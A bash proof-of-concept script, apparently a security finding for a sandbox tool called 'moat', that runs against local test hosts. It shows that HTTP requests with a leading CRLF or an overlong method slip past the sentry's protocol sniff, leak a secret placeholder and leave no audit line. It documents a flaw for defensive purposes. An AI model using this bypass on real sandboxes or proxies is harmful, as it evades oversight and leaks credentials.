#!/usr/bin/env bash
# findings/sniff_crlf.sh: plain HTTP that the sentry's sniff does not call
# HTTP goes past the broker: no 403, no audit line, the placeholder
# reaches a host it is not for (RFC 9112 2.2 lets a request begin with
# empty lines; curl never does, a guest may). Run as root:
#   MOAT=$PWD/build/moat bash findings/sniff_crlf.sh
. "$(dirname "$0")/../tests/e2e/lib.sh"
AUDIT=$E2E_TMP/audit.jsonl
trap e2e_cleanup EXIT
testkit_up || exit 1
S=sk-live-$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')
export REAL_KEY=$S
probe='import os, socket, sys
P = os.environ["API_KEY"]
for pre, m, label in ((b"", b"GET", "plain"), (b"\r\n", b"GET", "crlf-first"),
                      (b"", b"GETXXXXXXXXXXXXXXXXXX", "21-char-method")):
    s = socket.create_connection(("plain.test", 80))
    s.sendall(pre + m + b" /echo HTTP/1.1\r\nHost: plain.test\r\nAuthorization: Bearer "
              + P.encode() + b"\r\nConnection: close\r\n\r\n")
    a = b""
    while True:
        c = s.recv(4096)
        if not c:
            break
        a += c
    print(label, repr(a.split(b"\r\n\r\n")[0][:200]), "P echoed:", P.encode() in a)'
"$MOAT" do --net=slirp --dns "$KIT_DNS" --audit "$AUDIT" --upstream-ca "$KIT_CA_PEM" \
	--allow api.test:443+private --allow plain.test:80+private \
	--secret API_KEY=env:REAL_KEY@api.test -- python3 -c "$probe"
echo "plain.test received $(wc -l <"${ECHO_REC[plain]}") request(s)"
echo "audit lines blocked: $(grep -c '"verdict":"blocked"' "$AUDIT")"
